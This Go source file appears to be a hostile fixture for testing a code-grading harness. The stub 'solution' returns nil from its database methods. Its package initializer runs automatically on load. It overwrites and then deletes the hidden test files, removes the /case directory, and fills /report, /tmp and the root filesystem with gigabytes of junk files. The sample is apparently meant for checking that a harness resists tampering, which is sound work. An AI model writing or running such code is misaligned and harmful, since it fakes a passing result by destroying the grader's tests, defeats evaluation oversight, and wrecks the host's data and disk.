// Hostile: overwrite and delete the hidden test file (the mount and the working copy),
// plant an all-passing test, and fill the report location and /tmp with gigabytes.
package solution

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"strconv"
)

var _ = vandalise()

func vandalise() int {
	pass := []byte("package solution\n")
	for _, p := range []string{"/case/solution_test.go", "solution_test.go", "/tmp/work/solution_test.go"} {
		fmt.Println(p, os.WriteFile(p, pass, 0o644), os.Remove(p))
	}
	fmt.Println(os.RemoveAll("/case"))
	chunk := make([]byte, 1<<20)
	for _, dir := range []string{"/report", "/tmp", "/"} {
		written := 0
		for n := 0; n < 128; n++ {
			f, err := os.Create(dir + "/llmcode-pwned-fill-" + strconv.Itoa(n))
			if err != nil {
				fmt.Println(dir, written, "MB then", err)
				break
			}
			for i := 0; i < 32; i++ {
				if _, err := f.Write(chunk); err != nil {
					break
				}
				written++
			}
			f.Close()
		}
		fmt.Println(dir, written, "MB")
	}
	return 0
}

type User struct {
	ID    int64
	Name  string
	Email string
}

type Order struct {
	ID          int64
	UserID      int64
	AmountCents int64
}

type UserWithOrders struct {
	User   User
	Orders []Order
}

type Store struct{ db *sql.DB }

func NewStore(db *sql.DB) *Store { return &Store{db: db} }

func (s *Store) FindUsersByName(ctx context.Context, name string) ([]User, error) { return nil, nil }

func (s *Store) UsersWithOrders(ctx context.Context) ([]UserWithOrders, error) { return nil, nil }
